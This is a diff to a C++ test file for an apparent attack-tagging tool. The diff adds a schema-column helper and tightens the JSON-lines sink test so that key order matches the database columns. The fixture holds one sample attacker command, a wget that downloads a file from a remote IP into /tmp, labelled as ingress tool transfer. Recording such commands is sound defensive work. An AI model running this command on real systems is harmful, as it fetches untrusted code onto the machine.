@@ -6,11 +6,15 @@
 #include <unistd.h>
 
 #include <csignal>
+#include <sstream>
+#include <string>
+#include <vector>
 
 #include <nlohmann/json.hpp>
 
 #include "attack/catalogue.hpp"
 #include "base/error.hpp"
+#include "store/schema.hpp"
 #include "support.hpp"
 
 namespace ttp::output::sink_test {
@@ -54,6 +58,24 @@ std::string written(std::string_view name, std::size_t limit) {
   return test::read_file(path);
 }
 
+/// The columns of the database's table of tags, `ts` being what JSON lines have for `created_at`.
+std::vector<std::string> columns_of_tags() {
+  std::istringstream lines(store::tag_schema);
+  std::vector<std::string> columns;
+  bool inside = false;
+  for (std::string line; std::getline(lines, line);) {
+    if (line == "CREATE TABLE ttp_tag (") {
+      inside = true;
+    } else if (inside && line.starts_with("  PRIMARY KEY")) {
+      break;
+    } else if (inside) {
+      columns.push_back(line.substr(2, line.find(' ', 2) - 2));
+    }
+  }
+  if (!columns.empty() && columns.back() == "created_at") columns.back() = "ts";
+  return columns;
+}
+
 }  // namespace
 
 TEST_CASE("every sink writes its fixture") {
@@ -63,14 +85,32 @@ TEST_CASE("every sink writes its fixture") {
   }
 }
 
-TEST_CASE("JSON lines are JSON, with every column of the database") {
+TEST_CASE("JSON lines are JSON: the database's columns in their order, with the event's time as the last") {
   const std::string text = written("jsonl", 0);
-  const auto first = nlohmann::json::parse(text.substr(0, text.find('\n')));
-  CHECK(first["source_id"] == "e1");
-  CHECK(first["identity_uuid"].is_null());
-  CHECK(first["confidence"] == 0.85);
-  CHECK(first["evidence"]["command_text"] == "wget http://192.0.2.1/x -O /tmp/x");
-  CHECK(first["ts"] == "2026-11-07T10:00:00.500000Z");
+  const auto first = nlohmann::ordered_json::parse(text.substr(0, text.find('\n')));
+  const auto expected = nlohmann::ordered_json::parse(R"({
+    "uuid": "00000000-0000-0000-0000-000000000000",
+    "source_kind": "command",
+    "source_id": "e1",
+    "attacker_uuid": "a1",
+    "identity_uuid": null,
+    "session_id": "s1",
+    "decky_id": null,
+    "tactic": "TA0011",
+    "technique_id": "T1105",
+    "sub_technique_id": null,
+    "confidence": 0.85,
+    "rule_id": "R0012",
+    "rule_version": 10,
+    "evidence": {"command_text": "wget http://192.0.2.1/x -O /tmp/x"},
+    "attack_release": "enterprise-v18.1",
+    "mitre_url": "https://attack.mitre.org/techniques/T1105",
+    "ts": "2026-11-07T10:00:00.500000Z"
+  })");
+  CHECK(first == expected);
+  std::vector<std::string> keys;
+  for (const auto& item : first.items()) keys.push_back(item.key());
+  CHECK(keys == columns_of_tags());
 }
 
 TEST_CASE("the table lets no control character through and can be cut") {
